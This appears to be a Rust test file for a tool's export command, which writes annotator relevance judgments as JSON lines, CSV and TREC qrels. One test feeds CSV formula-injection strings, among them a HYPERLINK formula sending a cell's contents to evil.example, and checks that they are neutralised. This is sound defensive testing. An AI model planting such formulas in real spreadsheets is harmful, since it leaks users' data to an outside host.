//! `gradeglass export` over a collector's database: JSON lines, CSV and TREC qrels.

#![allow(clippy::unwrap_used, clippy::indexing_slicing)]

use gradeglass_tests::support::collector::Collector;
use gradeglass_tests::support::documents::{guideline, id, judgment, tasks};
use gradeglass_tests::support::program;
use serde_json::{Value, json};
use std::process::Output;

fn export(collector: &Collector, arguments: &[&str]) -> Output {
    let database = collector.database();
    let fixed = ["export", "--database", database.to_str().unwrap()];
    program::run([&fixed, arguments].concat())
}

fn exported(collector: &Collector, arguments: &[&str]) -> (String, String) {
    let output = export(collector, arguments);
    let said = String::from_utf8(output.stderr).unwrap();
    assert!(output.status.success(), "{said}");
    (String::from_utf8(output.stdout).unwrap(), said)
}

fn refused(collector: &Collector, arguments: &[&str]) -> String {
    let output = export(collector, arguments);
    assert_eq!((output.status.code(), output.stdout.as_slice()), (Some(1), &b""[..]));
    String::from_utf8(output.stderr).unwrap()
}

/// A judgment of the task `number` by `annotator`, submitted at the given second.
fn by(count: usize, number: usize, annotator: &str, second: usize, grade: &str) -> Value {
    let mut task = tasks(count)["tasks"][number - 1].clone();
    task.as_object_mut().unwrap().remove("gold");
    let mut judgment = judgment(second, &guideline(), &task, grade);
    judgment["annotator"] = annotator.into();
    judgment["timing"]["submitted_at"] = format!("2026-01-31T09:00:{second:02}Z").into();
    if grade == "exact" {
        judgment["answers"]["results"][format!("d{number}")]["note"] = "it is red".into();
    }
    judgment
}

fn holding(judgments: &[Value], tasks: &Value) -> Collector {
    let collector = Collector::start(&guideline(), tasks, &[]);
    let answer = collector.post(&json!(judgments));
    assert_eq!(answer.json()["refused"], json!([]), "{}", answer.text());
    collector
}

#[test]
fn json_lines_are_the_judgments_as_they_were_delivered() {
    let judgments = [by(2, 1, "ada", 1, "off"), by(2, 2, "ada", 2, "exact")];
    let collector = holding(&judgments, &tasks(2));
    let (lines, _) = exported(&collector, &["--format", "jsonl"]);
    let lines: Vec<Value> = lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(lines, judgments);
}

#[test]
fn qrels_have_the_gain_of_each_pair_and_say_how_annotators_were_combined() {
    let mut skipped = by(3, 3, "ada", 7, "off");
    skipped["outcome"] = "skipped".into();
    let mut corrected = by(3, 2, "cyd", 6, "exact");
    corrected["supersedes"] = id(5).into();
    let judgments = [
        by(3, 1, "ada", 1, "off"),
        by(3, 1, "bob", 2, "exact"),
        by(3, 1, "cyd", 3, "partly"),
        // Bob judged it again without saying that he corrects himself: he still has one voice.
        by(3, 1, "bob", 4, "off"),
        by(3, 2, "cyd", 5, "off"),
        corrected,
        skipped,
    ];
    let collector = holding(&judgments, &tasks(3));
    let (qrels, said) = exported(&collector, &["--format", "qrels"]);
    assert_eq!(qrels, "t1 0 d1 0\nt2 0 d2 2\n");
    assert!(said.contains("2 pairs of 2 topics; 1 of them have several annotators"), "{said}");
    assert!(said.contains("median") && said.contains("1 judgments are left out"), "{said}");
    let first = |combine: &str| {
        let (qrels, _) = exported(&collector, &["--format", "qrels", "--combine", combine]);
        qrels.lines().next().unwrap().rsplit(' ').next().unwrap().to_owned()
    };
    assert_eq!(["max", "latest", "majority"].map(first), ["1", "0", "0"].map(str::to_owned));
    let (mean, said) = exported(&collector, &["--format", "qrels", "--combine", "mean"]);
    assert!(mean.starts_with("t1 0 d1 0.333"), "{mean}");
    assert!(said.contains("trec_eval reads whole numbers only"), "{said}");
}

#[test]
fn parts_of_a_query_come_together_under_its_own_id() {
    let mut tasks = tasks(2);
    for part in tasks["tasks"].as_array_mut().unwrap() {
        part["query"] = json!({ "id": "shoes", "text": "red\tshoe" });
    }
    let judgments: Vec<Value> = (1..=2)
        .map(|number| {
            let mut task = tasks["tasks"][number - 1].clone();
            task.as_object_mut().unwrap().remove("gold");
            judgment(number, &guideline(), &task, "partly")
        })
        .collect();
    let collector = holding(&judgments, &tasks);
    let topics = collector.folder.path().join("topics.tsv");
    let (qrels, _) =
        exported(&collector, &["--format", "qrels", "--topics", topics.to_str().unwrap()]);
    assert_eq!(qrels, "shoes 0 d1 1\nshoes 0 d2 1\n");
    assert_eq!(std::fs::read_to_string(topics).unwrap(), "shoes\tred shoe\n");
}

#[test]
fn qrels_refuse_ids_with_white_space_and_name_them() {
    let mut tasks = tasks(1);
    tasks["tasks"][0]["id"] = "salon chair".into();
    tasks["tasks"][0]["results"][0]["id"] = "d\u{a0}1".into();
    tasks["tasks"][0].as_object_mut().unwrap().remove("gold");
    let judged = judgment(1, &guideline(), &tasks["tasks"][0], "off");
    let collector = holding(&[judged], &tasks);
    let said = refused(&collector, &["--format", "qrels"]);
    assert!(said.contains("`salon chair`") && said.contains("`d\u{a0}1`"), "{said}");
}

#[test]
fn qrels_say_what_they_lack() {
    let collector = holding(&[by(1, 1, "ada", 1, "off")], &tasks(1));
    let said = refused(&collector, &["--format", "qrels", "--field", "note"]);
    assert!(said.contains("`note`") && said.contains("`grade`"), "{said}");
}

#[test]
fn no_text_in_csv_is_a_formula_and_every_text_comes_back() {
    let notes = [
        "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
        "+1",
        "-1",
        "@SUM(A1:A9)",
        "\ttab",
        "'quoted'",
        "plain, with \"quotes\"\nand lines",
        "حذاء",
    ];
    let count = notes.len();
    let judgments: Vec<Value> = (1..)
        .zip(notes)
        .map(|(number, note)| {
            let mut judgment = by(count, number, "=ada", number, "off");
            let answers = &mut judgment["answers"]["results"][format!("d{number}")];
            answers["note"] = note.into();
            answers["worth"] = json!(-1.5);
            judgment
        })
        .collect();
    let collector = holding(&judgments, &tasks(count));
    let (table, _) = exported(&collector, &["--format", "csv"]);
    let mut reader = csv::Reader::from_reader(table.as_bytes());
    let names = reader.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), count);
    let column = |name: &str| names.iter().position(|column| column == name).unwrap();
    for (row, note) in rows.iter().zip(notes) {
        assert_eq!(&row[column("answer.worth")], "-1.5", "a number stays a number");
        for (name, cell) in names.iter().zip(row).filter(|(name, _)| *name != "answer.worth") {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{name}: {cell}");
        }
        let cell = &row[column("answer.note")];
        assert_eq!(cell.strip_prefix('\'').unwrap_or(cell), note);
        assert_eq!(&row[column("annotator")], "'=ada");
    }
}

#[test]
fn a_database_that_is_not_there_is_not_made() {
    let folder = tempfile::tempdir().unwrap();
    let database = folder.path().join("none.sqlite");
    let output =
        program::run(["export", "--format", "csv", "--database", database.to_str().unwrap()]);
    assert_eq!(output.status.code(), Some(1));
    assert!(String::from_utf8(output.stderr).unwrap().contains("there is no such file"));
    assert!(!database.exists());
}
